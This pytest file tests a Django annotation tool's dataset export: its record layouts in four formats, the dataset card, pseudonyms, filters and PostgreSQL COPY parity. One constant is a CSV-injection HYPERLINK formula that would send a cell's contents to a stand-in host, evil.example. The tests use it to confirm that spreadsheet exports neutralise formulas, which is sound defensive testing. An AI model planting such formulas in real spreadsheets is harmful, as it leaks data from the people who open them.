"""`export_dataset` and the project's "Export dataset" download: the record layouts of jsonl, csv,
xlsx and parquet for the demo, loadable with pandas (and pyarrow's json reader, which the
`datasets` library uses) without cleaning; the dataset card; pseudonyms and filters;
spreadsheet safety; and PostgreSQL's COPY path giving the same bytes (the admin's export job:
tests/jobs)."""

import csv
import io
import json
from datetime import timedelta

import openpyxl
import pandas as pd
import pyarrow.json
import pyarrow.parquet as pq
import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from annotator.adjudication.services import gold_label_save
from annotator.datasets.bundle import card_meta
from annotator.datasets.safety import neutralise, unneutralise
from annotator.datasets.selection import DatasetExport
from annotator.datasets.writers import csv_chunks, write_csv
from annotator.models import Annotation, Document, GoldLabel, Source, Statement
from tests.helpers import label

ANNOTATION_KEYS = [
    "annotator", "source", "source_mention", "source_reliability", "info_credibility",
    "admiralty_code", "labels", "note", "submitted_at", "source_mention_span",
    "guidelines_version", "seconds_spent",
]  # fmt: skip
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'


def export_files(tmp_path, project, fmt, *options):
    path = tmp_path / f"demo.{fmt}"
    call_command(
        "export_dataset", "--project", project.name, "--format", fmt, "--output", str(path),
        *options, stdout=io.StringIO(),
    )  # fmt: skip
    return path


def jsonl(path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


@pytest.fixture
def with_gold(demo, lead):
    """Two gold labels on the demo: one adjudicated by the lead, one unanimous."""
    statements = list(Statement.objects.filter(document__project=demo).order_by("position"))
    gold_label_save(
        gold=GoldLabel(
            statement=statements[3], method="adjudicated", decided_by=lead,
            source=Source.objects.get(name="KCNA"), source_mention="laut KCNA",
            source_reliability="E", info_credibility="5", rationale="Propaganda outlet.",
        ),
        labels=[label("Bias", "biased"), label("Persuasion techniques", "loaded language"),
                label("Persuasion techniques", "doubt")],
        changed_by=lead,
    )  # fmt: skip
    gold_label_save(
        gold=GoldLabel(statement=statements[0], method="unanimous", source_reliability="C",
                       info_credibility="3"),
        labels=[label("Bias", "non-biased")],
        changed_by=lead,
    )  # fmt: skip
    return statements


def test_jsonl_has_one_record_per_statement_with_annotations_gold_and_agreement(
    demo, with_gold, tmp_path
):
    records = jsonl(export_files(tmp_path, demo, "jsonl"))
    assert len(records) == 21
    assert [r["position"] for r in records] == list(range(21))
    first = records[0]
    assert list(first)[:10] == [
        "id", "document_id", "document_title", "document_external_id", "position",
        "paragraph", "text", "start", "end", "language",
    ]  # fmt: skip
    assert {"suggested_source", "annotations", "gold", "agreement"} <= set(first)
    documents = {
        d["id"]: d for d in jsonl(tmp_path / "demo.jsonl.documents.jsonl")
    }  # the texts the offsets point into
    for record in records:
        assert (
            documents[record["document_id"]]["text"][record["start"] : record["end"]]
            == (record["text"])
        )
        assert len(record["annotations"]) == 3
        for annotation in record["annotations"]:
            assert list(annotation) == ANNOTATION_KEYS
            assert annotation["admiralty_code"] == (
                annotation["source_reliability"] + annotation["info_credibility"]
            )
            assert set(annotation["labels"]) == {"bias", "stance", "persuasion-techniques"}
            assert isinstance(annotation["labels"]["persuasion-techniques"], list)
            assert annotation["submitted_at"].endswith("Z")
        assert record["agreement"]["annotators"] == 3
    gold = records[3]["gold"]
    assert gold["method"] == "adjudicated" and gold["decided_by"] == "lead_1"
    assert gold["labels"] == {
        "bias": "biased",
        "stance": None,
        "persuasion-techniques": ["loaded-language", "doubt"],
    }
    assert records[0]["gold"]["method"] == "unanimous"
    assert records[1]["gold"] is None


def test_per_statement_agreement_is_the_share_of_agreeing_pairs(demo, tmp_path):
    records = jsonl(export_files(tmp_path, demo, "jsonl"))
    for record in records:
        grades = [
            a["source_reliability"] for a in record["annotations"] if a["source_reliability"] != "F"
        ]
        pairs = [(a, b) for i, a in enumerate(grades) for b in grades[i + 1 :]]
        expected = round(sum(a == b for a, b in pairs) / len(pairs), 4) if pairs else None
        assert record["agreement"]["source_reliability"] == expected
        assert set(record["agreement"]["labels"]) == {"bias", "stance", "persuasion-techniques"}


def test_jsonl_loads_with_pandas_and_pyarrow_without_cleaning(demo, with_gold, tmp_path):
    path = export_files(tmp_path, demo, "jsonl")
    frame = pd.read_json(path, lines=True)
    assert len(frame) == 21
    assert frame["start"].dtype.kind == "i" and frame["end"].dtype.kind == "i"
    assert frame["annotations"].map(len).tolist() == [3] * 21
    table = pyarrow.json.read_json(path)  # what `datasets.load_dataset("json", ...)` uses
    assert table.num_rows == 21
    assert table.schema.field("annotations").type.value_type.get_field_index("labels") >= 0


def test_csv_is_long_one_row_per_annotation_with_gold_columns(demo, with_gold, tmp_path):
    frame = pd.read_csv(export_files(tmp_path, demo, "csv"))
    assert len(frame) == 63
    assert list(frame.columns[:10]) == [
        "statement_id", "document_id", "document_title", "position", "text", "start", "end",
        "language", "suggested_source", "annotator",
    ]  # fmt: skip
    for column in [
        "labels.bias",
        "labels.persuasion-techniques",
        "gold.method",
        "gold.labels.persuasion-techniques",
        "gold.admiralty_code",
        "submitted_at",
    ]:
        assert column in frame.columns  # fmt: skip
    assert frame["position"].dtype.kind == "i" and frame["start"].dtype.kind == "i"
    assert set(frame["annotator"]) == {"annotator_1", "annotator_2", "annotator_3"}
    adjudicated = frame[frame["position"] == 3]
    assert len(adjudicated) == 3
    assert set(adjudicated["gold.labels.persuasion-techniques"]) == {"loaded-language|doubt"}
    assert set(adjudicated["gold.admiralty_code"]) == {"E5"}
    assert frame[frame["position"] == 1]["gold.method"].isna().all()
    times = pd.to_datetime(frame["submitted_at"])
    assert str(times.dt.tz) == "UTC"


def test_xlsx_has_statements_annotations_and_sources_sheets(demo, with_gold, tmp_path):
    sheets = pd.read_excel(export_files(tmp_path, demo, "xlsx"), sheet_name=None)
    assert list(sheets) == ["statements", "annotations", "sources"]
    statements, annotations, sources = sheets.values()
    assert len(statements) == 21 and len(annotations) == 63
    assert {"gold.method", "agreement.source_reliability", "annotations"} <= set(statements)
    assert set(statements["annotations"]) == {3}
    assert {"annotator", "labels.bias", "submitted_at"} <= set(annotations)
    assert {"gold.labels.persuasion-techniques", "agreement.labels.bias"} <= set(statements)
    assert "KCNA" in set(sources["name"])


def test_parquet_is_the_jsonl_records_as_a_typed_table(demo, with_gold, tmp_path):
    path = export_files(tmp_path, demo, "parquet")
    schema = pq.read_schema(path)
    annotation = schema.field("annotations").type.value_type
    assert str(annotation.field("submitted_at").type) == "timestamp[us, tz=UTC]"
    assert str(schema.field("start").type) == "int64"
    frame = pd.read_parquet(path)
    records = jsonl(export_files(tmp_path, demo, "jsonl"))
    assert frame["text"].tolist() == [r["text"] for r in records]
    assert frame.iloc[3]["gold"]["method"] == "adjudicated"
    assert list(frame.iloc[3]["gold"]["labels"]["persuasion-techniques"]) == [
        "loaded-language",
        "doubt",
    ]


def test_pseudonyms_are_stable_and_real_names_are_opt_in(demo, with_gold, tmp_path):
    records = jsonl(export_files(tmp_path, demo, "jsonl"))
    named = jsonl(export_files(tmp_path, demo, "jsonl", "--real-names"))
    mapping = {
        a["annotator"]: b["annotator"]
        for ra, rb in zip(records, named, strict=True)
        for a, b in zip(ra["annotations"], rb["annotations"], strict=True)
    }
    assert mapping == {"annotator_1": "anna", "annotator_2": "ben", "annotator_3": "carla"}
    assert named[3]["gold"]["decided_by"] == "lena"
    gold_only = jsonl(export_files(tmp_path, demo, "jsonl", "--gold-only"))
    assert [r["position"] for r in gold_only] == [0, 3]
    assert {a["annotator"] for a in gold_only[1]["annotations"]} == set(mapping)


def test_since_exports_only_statements_labelled_since(demo, with_gold, tmp_path):
    later = timezone.now() + timedelta(days=1)
    # --since reads a date in the project's time zone: tomorrow there, not in UTC (which is
    # still today between midnight in Berlin and midnight in UTC).
    tomorrow = timezone.localtime(later).date()
    assert jsonl(export_files(tmp_path, demo, "jsonl", "--since", tomorrow.isoformat())) == []
    moved = Annotation.objects.filter(statement=with_gold[5]).first()
    Annotation.objects.filter(pk=moved.pk).update(updated_at=later + timedelta(hours=1))
    since = jsonl(export_files(tmp_path, demo, "jsonl", "--since", later.isoformat()))
    assert [r["position"] for r in since] == [5]
    assert len(since[0]["annotations"]) == 3  # the statement whole
    with pytest.raises(CommandError):
        export_files(tmp_path, demo, "jsonl", "--since", "last tuesday")


def test_drafts_are_not_exported(demo, tmp_path):
    Annotation.objects.filter(pk=Annotation.objects.first().pk).update(status="draft")
    records = jsonl(export_files(tmp_path, demo, "jsonl"))
    assert sum(len(r["annotations"]) for r in records) == 62
    card = (tmp_path / "demo.jsonl.card.md").read_text()
    assert "62 submitted (1 drafts not exported)" in card


def test_the_card_documents_schema_counts_agreement_and_how_to_reproduce(demo, with_gold, tmp_path):
    export_files(tmp_path, demo, "csv")
    card = (tmp_path / "demo.csv.card.md").read_text(encoding="utf-8")
    meta = card_meta(card)
    assert meta["project"]["name"] == demo.name
    assert meta["project"]["guidelines_version"] == demo.guidelines_version
    assert meta["counts"]["statements"] == 21 and meta["counts"]["annotations"] == 63
    assert meta["counts"]["annotators"] == 3 and meta["pseudonymised"] is True
    assert meta["counts"]["gold_labels_by_method"] == {"adjudicated": 1, "unanimous": 1}
    assert set(meta["agreement"]) == {
        "source", "source_reliability", "info_credibility", "labels.bias", "labels.stance",
        "labels.persuasion-techniques",
    }  # fmt: skip
    assert all(value is None or -1 <= value <= 1 for value in meta["agreement"].values())
    assert [g["name"] for g in meta["label_groups"]] == ["Bias", "Stance", "Persuasion techniques"]
    assert [g["key"] for g in meta["label_groups"]] == ["bias", "stance", "persuasion-techniques"]
    bias = meta["label_groups"][0]
    assert (bias["name_de"], bias["name_en"]) == ("Verzerrung", "Bias")
    biased = bias["labels"][1]
    assert (biased["key"], biased["name"], biased["name_de"], biased["name_en"]) == (
        "biased", "biased", "verzerrt", "biased"
    )  # fmt: skip
    assert biased["description_de"].startswith("Formulierung, die eine Seite begünstigt")
    assert biased["description_en"].startswith("Wording that favours one side")
    assert meta["project"]["guidelines_de"] == demo.guidelines_de != ""
    assert meta["project"]["guidelines_en"] == demo.guidelines_en != ""
    for text in [
        f"# {demo.name}",
        "guidelines version | 1.0",
        "A – completely reliable",
        "F – reliability cannot be judged",
        "6 – truth cannot be judged",
        "loaded-language | loaded language | emotional aufgeladene Sprache | loaded language | "
        "Wörter mit starken emotionalen Konnotationen. | Words with strong emotional connotations.",
        "### labels.persuasion-techniques (multiple choice)",
        "German: Verzerrung; English: Bias",
        "German: Ist die Aussage einseitig formuliert? (wie in BABE)",
        "### German\n\nErfassen Sie für jede Aussage",
        "### English\n\nFor each statement, record who it comes from",
        "Krippendorff's alpha",
        "ordinal A–E (F missing)",
        "MASI",
        "annotator_3 | 21",
        "exported | " + timezone.now().strftime("%Y-%m-%d"),
        f"python manage.py export_dataset --project '{demo.name}' --format csv --output",
        "CSV injection",
        "demo.csv.documents.jsonl",
    ]:
        assert text in card, text
    assert "anna" not in card and "lena" not in card


def test_spreadsheets_never_hold_a_live_formula_and_jsonl_keeps_text_verbatim(demo, tmp_path):
    statement = Statement.objects.filter(document__project=demo).order_by("position").first()
    Statement.objects.filter(pk=statement.pk).update(text=FORMULA)
    Annotation.objects.filter(statement=statement).update(note="+1 for this", source_mention="@x")

    rows = list(csv.DictReader(export_files(tmp_path, demo, "csv").open(encoding="utf-8")))
    assert {row["text"] for row in rows[:3]} == {"'" + FORMULA}
    assert {row["note"] for row in rows[:3]} == {"'+1 for this"}
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())

    workbook = openpyxl.load_workbook(export_files(tmp_path, demo, "xlsx"))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + FORMULA in {cell.value for cell in cells}

    assert jsonl(export_files(tmp_path, demo, "jsonl"))[0]["text"] == FORMULA
    assert pd.read_parquet(export_files(tmp_path, demo, "parquet"))["text"][0] == FORMULA


def test_neutralise_is_reversible():
    for text in [
        "=1+1",
        "+49 30",
        "-5 Grad",
        "@user",
        "\tx",
        "\rx",
        "'=x",
        "''@",
        "plain",
        "'",
        "",
    ]:
        assert unneutralise(neutralise(text)) == text
        assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_an_unknown_project_is_a_command_error(db, tmp_path):
    with pytest.raises(CommandError, match="No project"):
        call_command(
            "export_dataset", "--project", "nope", "--format", "csv",
            "--output", str(tmp_path / "x.csv"),
        )  # fmt: skip


def test_postgres_copy_gives_the_same_bytes_as_the_streaming_writer(
    postgres_only, demo, with_gold, lead
):
    statement = Statement.objects.filter(document__project=demo).order_by("position")[1]
    Statement.objects.filter(pk=statement.pk).update(text='=1+1\r\nzwei, „drei“ "vier"')
    Annotation.objects.filter(statement=statement).update(
        note="-minus\rCR", source_mention="", source=None
    )
    # Names the SQL neutralises once per source, document and person, not per row.
    Source.objects.filter(name="KCNA").update(name="@KCNA")
    Document.objects.filter(project=demo).update(title="+Titel")
    type(lead).objects.filter(pk=lead.pk).update(username="-lead")
    streamed = {}
    # --since (a statement filter with parameters): one annotated statement and the gold ones.
    old = timezone.now() - timedelta(days=10)
    Annotation.objects.exclude(statement=statement).update(updated_at=old)
    since = {"since": timezone.now() - timedelta(days=1)}
    for options in [{}, {"gold_only": True}, {"real_names": True}, since]:
        export = DatasetExport(project=demo, **options)
        copied = io.BytesIO()
        write_csv(export, copied)
        streamed[str(options)] = "".join(csv_chunks(export))
        assert copied.getvalue() == streamed[str(options)].encode()
    assert ",'@KCNA," in streamed["{}"]
    assert ",'+Titel," in streamed["{}"]
    assert ",'-lead," in streamed[str({"real_names": True})]
    assert 0 < len(streamed[str(since)]) < len(streamed["{}"])
